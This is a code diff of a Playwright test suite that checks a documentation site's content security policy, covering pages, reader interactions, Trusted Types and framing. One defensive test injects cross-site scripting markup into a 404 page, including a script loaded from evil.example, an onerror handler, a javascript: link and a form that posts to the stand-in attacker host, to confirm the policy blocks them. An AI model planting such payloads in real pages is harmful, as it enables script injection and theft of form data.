@@ -1,29 +1,193 @@
-import { expect, test } from '@playwright/test';
+import type { Page } from '@playwright/test';
 import { locales, pageKinds } from './pages.ts';
+import { expect, test, watch } from './reportingSite.ts';
+
+/** Kinds of page beyond those that are in every list, and the states of an address that make more code run. */
+const furtherKinds: readonly string[] = [
+  '/docs/api/Mutations/Authentication/login-api',
+  '/docs/api/Types',
+  '/docs/api/Types/DeviceView',
+  '/docs/api/schema-changelog',
+  '/docs/changelog/2024',
+  '/docs/changelog/changelog?platform=windows',
+  '/docs/tutorial-basics/getting-started?platform=ios#next',
+  '/blog/page/2',
+  '/blog/archive',
+  '/blog/authors',
+  '/blog/authors/founders',
+  '/blog/tags/security',
+  '/search?q=vpn',
+];
+
+const operation = '/docs/api/Mutations/Authentication/login-api';
+const guide = '/docs/tutorial-basics/getting-started';
+
+/** The reader's first sign of life, which loads what pages do beyond their HTML. */
+async function stir(page: Page): Promise<void> {
+  await page.mouse.move(200, 300);
+  await page.mouse.wheel(0, 600);
+  await page.waitForLoadState('networkidle');
+}
 
 for (const locale of locales) {
-  test(`no page in ${locale} asks another origin for anything or breaks the content security policy`, async ({
+  test(`no page in ${locale} breaks the content security policy or asks another origin for anything`, async ({
     page,
-    baseURL,
+    site,
   }) => {
-    test.setTimeout(90_000);
-    const outside: string[] = [];
-    const complaints: string[] = [];
-    page.on('request', (request) => {
-      if (!request.url().startsWith(`${baseURL}/`) && !request.url().startsWith('data:')) outside.push(request.url());
-    });
-    page.on('console', (message) => {
-      const expected = message.text().includes('status of 404');
-      if (message.type() === 'error' && !expected) complaints.push(message.text());
-    });
-    page.on('pageerror', (error) => complaints.push(error.message));
-    for (const path of pageKinds) {
-      await page.goto(`/${locale}${path}`);
-      await page.mouse.move(200, 300);
-      await page.mouse.wheel(0, 600);
-      await page.waitForLoadState('networkidle');
+    test.setTimeout(180_000);
+    const { outside, errors } = watch(page, site.origin);
+    for (const path of [...pageKinds, ...furtherKinds]) {
+      const response = await page.goto(`${site.origin}/${locale}${path}`);
+      expect(response?.status(), path).toBe(path === '/no-such-page' ? 404 : 200);
+      await stir(page);
+      expect(await site.violations(page), path).toEqual([]);
     }
     expect(outside).toEqual([]);
-    expect(complaints).toEqual([]);
+    expect(errors).toEqual([]);
+  });
+
+  test(`nothing that a reader does in ${locale} breaks the content security policy or asks another origin`, async ({
+    page,
+    site,
+    context,
+  }) => {
+    test.setTimeout(120_000);
+    await context.grantPermissions(['clipboard-read', 'clipboard-write']);
+    const { outside, errors } = watch(page, site.origin);
+    const at = (path: string) => `${site.origin}/${locale}${path}`;
+    const dialog = page.locator('#search-dialog');
+
+    await page.goto(at(guide));
+    await page.evaluate(() => Object.assign(window, { sameDocument: true }));
+    await test.step('colour mode, announcement, tabs, copying', async () => {
+      await page.locator('[data-color-mode]:visible').first().click();
+      await page.locator('[data-close-announcement]').click();
+      await page.locator('[role="tab"]').nth(1).click();
+    });
+    await test.step('a search that leads to another page', async () => {
+      await page.keyboard.press('Control+k');
+      await expect(dialog.locator('[data-island]')).toHaveAttribute('data-alive', '');
+      await dialog.locator('input').fill('WireGuard');
+      await expect(dialog.locator('.result a').first()).toBeVisible();
+      await page.keyboard.press('Enter');
+      await expect(page).not.toHaveURL(at(guide));
+    });
+    await test.step('another language', async () => {
+      const other = locale === 'fa' ? 'ru' : 'fa';
+      await page.locator('.language-menu summary').click();
+      await page.locator(`.language-menu a[data-language="${other}"]`).click();
+      await expect(page.locator('html')).toHaveAttribute('lang', other);
+      await page.goBack();
+      await expect(page.locator('html')).toHaveAttribute('lang', locale);
+    });
+    await test.step('from area to area', async () => {
+      for (const area of ['/docs/changelog/changelog', '/docs/api/getting-started', '/blog']) {
+        await page.locator(`.navbar a[href="/${locale}${area}"]:visible`).first().click();
+        await expect(page).toHaveURL(at(area));
+      }
+    });
+    expect(await page.evaluate(() => 'sameDocument' in window)).toBe(true);
+    expect(await site.violations(page)).toEqual([]);
+
+    await test.step('the filter of the changelog', async () => {
+      await page.goto(at('/docs/changelog/changelog'));
+      await page.locator('select[name="platform"]').focus();
+      await page.locator('select[name="platform"]').selectOption('windows');
+      await expect(page.locator('.filter-results .release').first()).toBeVisible();
+    });
+    await test.step('the request builder, and copying what it wrote', async () => {
+      await page.goto(at(operation));
+      await page.locator('.builder > button').click();
+      await page.locator('[id="builder-email"]').fill('nina@example.com');
+      await page.locator('.builder [data-copy]').first().click();
+      await expect.poll(() => page.evaluate(() => navigator.clipboard.readText())).toContain('mutation Login');
+    });
+    await test.step('the search page', async () => {
+      await page.goto(at('/search?q=vpn'));
+      await page.locator('.search-pager a[rel="next"]').click();
+      await expect(page.locator('.result-list')).toHaveAttribute('start', '21');
+    });
+    expect(await site.violations(page)).toEqual([]);
+    expect(outside).toEqual([]);
+    expect(errors).toEqual([]);
   });
 }
+
+test('the front page breaks no policy, with languages to choose from and where it leads on by itself', async ({
+  page,
+  site,
+  browser,
+}) => {
+  const { outside, errors } = watch(page, site.origin);
+  await page.goto(`${site.origin}/`);
+  await expect(page).toHaveURL(`${site.origin}/en/`);
+  expect(await site.violations(page)).toEqual([]);
+  const stranger = await browser.newPage({ locale: 'de-DE' });
+  await stranger.goto(`${site.origin}/`);
+  await expect(stranger.locator('a[data-language]')).toHaveCount(3);
+  expect(await site.violations(stranger)).toEqual([]);
+  await stranger.close();
+  expect([outside, errors]).toEqual([[], []]);
+});
+
+test.describe('What the policy is there for', () => {
+  const page404 = '/en/no-such-page';
+
+  test('scripts, styles and requests of an attacker do not work, and are reported', async ({ page, site }) => {
+    const { outside } = watch(page, site.origin);
+    await page.route(`${site.origin}${page404}`, async (route) => {
+      const response = await route.fetch();
+      const attack = `<script>window.broken='script'</script><img src=/x onerror="window.broken='handler'">
+        <a id=lure href="javascript:window.broken='address'">x</a><script src=https://evil.example/x.js></script>
+        <p id=styled style=color:red></p><object data=/x></object><base href=https://evil.example/>
+        <form id=theft action=https://evil.example/><input name=q></form>`;
+      await route.fulfill({ response, body: (await response.text()).replace('</main>', `${attack}</main>`) });
+    });
+    await page.goto(`${site.origin}${page404}`);
+    await expect(page.locator('#styled')).not.toHaveCSS('color', 'rgb(255, 0, 0)');
+    await page.locator('#lure').dispatchEvent('click');
+    await page.evaluate(() => document.querySelector<HTMLFormElement>('#theft')?.submit());
+    const refused = (await site.violations(page)).map(({ directive }) => directive);
+    expect(new Set(refused)).toEqual(
+      new Set(['script-src-elem', 'script-src-attr', 'style-src-attr', 'object-src', 'base-uri', 'form-action']),
+    );
+    expect(await page.evaluate(() => 'broken' in window)).toBe(false);
+    expect(outside.filter((url) => !url.startsWith('https://evil.example/'))).toEqual([]);
+  });
+
+  test('text that code takes for HTML or a script is refused, and reported', async ({ page, site }) => {
+    await page.goto(`${site.origin}/en/`);
+    const outcomes = await page.evaluate(() => {
+      const refuses = (use: () => void) => {
+        try {
+          use();
+          return 'taken';
+        } catch (error) {
+          return error instanceof TypeError ? 'refused' : String(error);
+        }
+      };
+      return [
+        refuses(() => {
+          document.createElement('p').innerHTML = '<b>x</b>';
+        }),
+        refuses(() => document.body.insertAdjacentHTML('beforeend', '<b>x</b>')),
+        refuses(() => {
+          document.createElement('script').text = 'window.broken = true';
+        }),
+        refuses(() => document.write('<b>x</b>')),
+      ];
+    });
+    expect(outcomes).toEqual(['refused', 'refused', 'refused', 'refused']);
+    const reported = await site.violations(page);
+    expect(reported.map(({ directive }) => directive)).toEqual(Array(4).fill('require-trusted-types-for'));
+  });
+
+  test('no other site may show a page in a frame', async ({ page, site }) => {
+    await page.route('http://frame.test/', (route) =>
+      route.fulfill({ contentType: 'text/html', body: `<iframe src="${site.origin}/en/"></iframe>` }),
+    );
+    await page.goto('http://frame.test/');
+    await expect.poll(() => page.frames().some((frame) => frame.url().startsWith('chrome-error:'))).toBe(true);
+    expect(page.frames().some((frame) => frame.url().startsWith(site.origin))).toBe(false);
+  });
+});
